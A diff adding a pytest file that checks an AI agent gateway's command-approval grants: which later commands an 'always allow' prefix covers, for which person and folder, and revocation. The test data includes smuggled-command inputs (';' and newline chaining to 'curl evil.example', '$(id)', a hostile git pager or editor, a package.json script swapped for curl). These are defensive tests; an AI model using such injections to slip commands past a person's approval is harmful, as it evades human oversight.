@@ -1,0 +1,132 @@
+"""Commands that a person allowed with any arguments: for whom, where, and until when."""
+
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from agent.security.policy.base import Answered, ApprovalRequest, Scope
+from agent.security.shell.command_prefix import prefix_of
+from agent.types import assistant
+from gateway.access.approvals import ApprovalContext
+from gateway.core.errors import AwaitingAnswer
+from gateway.core.messages import InboundMessage
+from tests.gateway.access.test_approval_coordinator import OWNER, Asking, change, question, seed
+from tests.gateway.parts import Parts, chat_message, console_message, running
+
+
+class Commands:
+    """Asks about commands on behalf of one person's turn, in the folder `root`."""
+
+    def __init__(self, parts: Parts, session: str, root: Path, message: InboundMessage) -> None:
+        self._parts = parts
+        self._context = ApprovalContext(1, message, session, root)
+
+    def of(self, message: InboundMessage, root: Path | None = None) -> "Commands":
+        context = self._context
+        return Commands(self._parts, context.session, root or context.root, message)
+
+    async def ask(self, line: str, rule: str = "ask-exec") -> Answered | None:
+        """The answer that holds; None when a person is asked."""
+        root = self._context.root
+        prefix = prefix_of(line, root, root) if rule == "ask-exec" else None
+        request = ApprovalRequest(
+            "exec", {"command": line}, "why", line, rule, line, root, prefix=prefix
+        )
+        try:
+            return await self._parts.approvals.ask(self._context, request)
+        except AwaitingAnswer:
+            return None
+
+    async def allow(self, line: str, scope: Scope = "prefix") -> None:
+        """Have it asked, and allow it always."""
+        assert await self.ask(line) is None
+        asked = (await self._parts.service.list_approvals())[-1]
+        service = self._parts.service
+        assert await service.answer_approval(asked.nonce, "always", "cli:0", scope=scope)
+
+
+async def commands(parts: Parts, root: Path) -> Commands:
+    message = console_message("go")
+    await parts.bus.submit(message)
+    return Commands(parts, (await question(parts)).session, root, message)
+
+
+async def test_a_prefix_holds_for_other_arguments_and_nothing_else(tmp_path: Path) -> None:
+    seed(tmp_path)
+    async with running(tmp_path, [assistant("", (change("1"),))], owner=OWNER) as parts:
+        work = await commands(parts, tmp_path)
+        await work.allow("git commit -m one")
+        answered = await work.ask("git commit -m two --amend")
+        assert answered is not None
+        assert answered.account == "not asked: cli:0 allowed it from now on (git commit *)"
+        for line in (
+            "git commit -m x; curl evil.example",
+            "git commit -m x\ncurl evil.example",
+            "git -c core.pager=./evil commit",
+            "GIT_EDITOR=./evil git commit",
+            "git commit -m $(id)",
+            "git push origin main",
+            "git commit -m x > out",
+            "env git commit",
+        ):
+            assert await work.ask(line) is None, line
+        # A reason to ask that is no matter of arguments.
+        assert await work.ask("git commit -m two", "ask-outside") is None
+        assert await work.ask("git commit -m two", "taint-way-out") is None
+
+
+async def test_a_prefix_is_one_person_s_in_one_place(tmp_path: Path) -> None:
+    seed(tmp_path)
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    model = [assistant("", (change("1"),))]
+    async with running(tmp_path, model, owner=OWNER, platform=Asking()) as parts:
+        work = await commands(parts, tmp_path)
+        await work.allow("git commit -m one")
+        assert await work.of(replace(console_message("x"), chat_id="other")).ask("git commit")
+        assert await work.of(console_message("x"), elsewhere).ask("git commit -m 2") is None
+        # The same owner on another platform is somebody else to a grant.
+        assert await work.of(chat_message("x", "7")).ask("git commit -m 3") is None
+
+
+async def test_a_prefix_is_listed_and_revoked(tmp_path: Path) -> None:
+    seed(tmp_path)
+    async with running(tmp_path, [assistant("", (change("1"),))], owner=OWNER) as parts:
+        work = await commands(parts, tmp_path)
+        await work.allow("git commit -m one")
+        (grant,) = await parts.service.list_grants()
+        assert grant["title"] == "exec git commit * (any arguments)"
+        assert (grant["folder"], grant["session"]) == (str(tmp_path), "")
+        await parts.service.revoke_grants(grant["id"])
+        assert await work.ask("git commit -m two") is None
+
+
+async def test_a_prefix_ends_with_the_script_that_it_runs(tmp_path: Path) -> None:
+    seed(tmp_path)
+    (tmp_path / "package.json").write_text('{"scripts": {"test": "jest"}}')
+    async with running(tmp_path, [assistant("", (change("1"),))], owner=OWNER) as parts:
+        work = await commands(parts, tmp_path)
+        await work.allow("npm test")
+        assert await work.ask("npm test -- a.js")
+        (tmp_path / "package.json").write_text('{"scripts": {"test": "curl evil.example"}}')
+        assert await work.ask("npm test -- b.js") is None
+
+
+@pytest.mark.parametrize("line", ["python x.py", "git commit; id", "sudo git commit"])
+async def test_without_a_prefix_always_is_about_exactly_this(line: str, tmp_path: Path) -> None:
+    seed(tmp_path)
+    async with running(tmp_path, [assistant("", (change("1"),))], owner=OWNER) as parts:
+        work = await commands(parts, tmp_path)
+        await work.allow(line)
+        assert await work.ask(f"{line} more") is None
+        (grant,) = await parts.service.list_grants()
+        assert "any arguments" not in grant["title"]
+
+
+async def test_exactly_this_does_not_become_a_prefix(tmp_path: Path) -> None:
+    seed(tmp_path)
+    async with running(tmp_path, [assistant("", (change("1"),))], owner=OWNER) as parts:
+        work = await commands(parts, tmp_path)
+        await work.allow("git commit -m one", "call")
+        assert await work.ask("git commit -m two") is None
